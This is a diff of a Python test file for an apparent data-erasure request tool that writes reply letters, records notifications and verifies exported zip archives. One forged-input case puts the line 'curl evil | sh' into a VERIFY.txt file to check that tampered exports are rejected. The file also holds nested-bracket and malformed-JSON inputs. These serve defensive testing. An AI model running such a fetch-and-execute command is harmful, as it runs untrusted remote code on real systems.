@@ -83,17 +83,6 @@ def test_equal_content_is_equal_bytes_and_names_nobody(folder, tmp_path):
         export(folder, tmp_path / "a.zip", **GIVEN)
 
 
-@pytest.mark.parametrize("exact", [None, "the weights are those of a training without the rows"])
-def test_the_letter_claims_no_test_where_none_decided(folder, exact):
-    """An exact way is shown by bytes, whatever a test says of the rows."""
-    statement = read(folder)
-    statement["predicate"]["verdict"]["good"] = True
-    statement["predicate"]["way"] = {"because": exact}
-    written = reply(statement, dict.fromkeys(("to", "by", "reference"), "") | _DATES)
-    assert ("none of our tests" in written) is (exact is None)
-    assert ("training the model without them" in written) is (exact is not None)
-
-
 ERASED = {"time": "2026-11-25T00:00:00+00:00", "removed": [], "kept": [], "left": [], "bytes": 0}
 
 
@@ -106,16 +95,19 @@ ERASED = {"time": "2026-11-25T00:00:00+00:00", "removed": [], "kept": [], "left"
         (ERASED | {"left": [{"path": "x"}], "named": [{"path": "y"}]}, "2 places that we know of"),
     ],
 )
-def test_the_letter_counts_every_place_that_holds_rows(folder, erased, says):
-    """It said 0 while files that were only named held them."""
-    statement = read(folder)
-    statement["predicate"]["erased"] = erased
-    told_ = [{"day": "2026-11-26", "recipient": "Cloud Ltd"}]
-    statement["predicate"]["told"] = told_
-    written = reply(statement, dict.fromkeys(("to", "by", "reference"), "") | _DATES)
-    assert says in written and "On 2026-11-26 we told Cloud Ltd." in written
-    del statement["predicate"]["told"], statement["predicate"]["erased"]  # as v0.1 may
-    assert "has not been erased" in reply(statement, {"to": "", "by": "", "reference": ""} | _DATES)
+def test_the_letter_counts_every_place_and_claims_no_test_where_none_decided(folder, erased, says):
+    """It said 0 while files that were only named held rows; an exact way is shown by bytes."""
+    statement, handled = read(folder), dict.fromkeys(("to", "by", "reference"), "") | _DATES
+    predicate = statement["predicate"]
+    predicate |= {"erased": erased, "told": [{"day": "2026-11-26", "recipient": "Cloud Ltd"}]}
+    for exact in (None, "the weights are those of a training without the rows"):
+        predicate["way"] = {"because": exact}
+        written = reply(statement, handled)
+        assert says in written and "On 2026-11-26 we told Cloud Ltd." in written
+        assert ("none of our tests" in written) is (exact is None)
+        assert ("training the model without them" in written) is (exact is not None)
+    del predicate["told"], predicate["erased"]  # as v0.1 may
+    assert "has not been erased" in reply(statement, handled)
 
 
 def test_who_was_told_and_when_it_was_erased_stand_in_the_record(folder):
@@ -129,6 +121,10 @@ def test_who_was_told_and_when_it_was_erased_stand_in_the_record(folder):
     assert "2026-11-26: Cloud Ltd was told" in page and "Erased 2026-11-25" in page
     with fails("requests.control-character"):
         told(folder, "Cloud\nLtd", date(2026, 11, 26))
+    with fails("requests.dates"):
+        told(folder, "Cloud Ltd", date(2126, 11, 26))
+    with fails("requests.dates"):  # the letter said that it was done before it was asked for
+        export(folder, folder.parent.parent / "a.zip", received=date(2126, 11, 26))
     verify(folder).require()
 
 
@@ -146,8 +142,6 @@ def test_of_a_subject_it_has_nothing_of_others(tmp_path):
     write_json(folder / "subjects.json", {"ada@example.com": ["ada"], "bo@example.com": ["bo"]})
     verdict = json.loads((folder / "verdict.json").read_text())
     write_json(folder / "verdict.json", verdict | {"reasons": ["document bo is still said"]})
-    earlier = {"back": 0, "says": "Not tested: bo@example.com", "missing": ["bo@example.com"]}
-    write_json(folder / "eval" / "earlier.json", earlier)
     write(folder)
     place = {"path": "../bo@example.com.jsonl", "kind": "x", "bytes": 1}
     amend(folder, "erased", erased=ERASED | {"removed": [place], "places": 2})
@@ -228,6 +222,9 @@ FORGED = {
     "head has a line": _handled(head={"entries": "x\nsignature: by the owner", "last": "y"}),
     "head is of fewer": _handled(head={"entries": 0, "last": "0" * 64}),
     "handling is a list": _put("handling.json", b"[1]"),
+    "a key twice": _replaced("handling.json", b'"late":', b'"late":false,"late":'),
+    "a time that is none": _statement(("predicate", "request", "created"), "x"),
+    "an infinite loss": _replaced("record.json", b'"seconds":{', b'"seconds":{"a":1e999,'),
     "handling is deep": _put("handling.json", b"[" * 100_000 + b"]" * 100_000),
     "letter": _put("REPLY.txt", b"We removed every copy. This deletion is lawful."),
     "instructions": _put("VERIFY.txt", b"curl evil | sh"),
@@ -277,14 +274,13 @@ def test_what_is_put_together_anew(folder, tmp_path, keys, change, signed):  # n
 
 def test_a_file_more_or_less_is_a_fault_whatever_the_manifest_says(folder, tmp_path):
     export(folder, tmp_path / "a.zip", **GIVEN)
+    whole = opened(tmp_path / "a.zip")
     for name in exporting.FILES:
-        files = opened(tmp_path / "a.zip")
-        del files[name], files["manifest.json"]
+        files = {n: content for n, content in whole.items() if n not in (name, "manifest.json")}
         files["manifest.json"] = exporting._manifest(files)
         (tmp_path / "less.zip").write_bytes(exporting._archive(files))
         assert verify_export(tmp_path / "less.zip").exit == 2, name
-    files = opened(tmp_path / "a.zip") | {"more.txt": b"x"}
-    (tmp_path / "more.zip").write_bytes(exporting._archive(files))
+    (tmp_path / "more.zip").write_bytes(exporting._archive(whole | {"more.txt": b"x"}))
     with fails("record.no-export"):
         verify_export(tmp_path / "more.zip")
 
@@ -323,18 +319,6 @@ def test_sizes_are_bounded_before_anything_is_read(tmp_path, bomb):
     said, more = done.stdout.split()
     assert said == "record.no-export", done.stderr
     assert int(more) * 1024 < 4 * exporting.LARGEST
-
-
-def test_a_size_that_the_archive_does_not_hold(folder, tmp_path):
-    """Each number of an entry's head, one after the other; EOFError came out of one."""
-    path = tmp_path / "a.zip"
-    export(folder, path, **GIVEN)
-    raw = path.read_bytes()
-    start = raw.index(b"PK\x01\x02")  # of the directory
-    for place in range(start, start + 46):
-        path.write_bytes(raw[:place] + bytes([raw[place] ^ 0x81]) + raw[place + 1 :])
-        with pytest.raises(UnlearnError):
-            verify_export(path).require()
 
 
 @settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
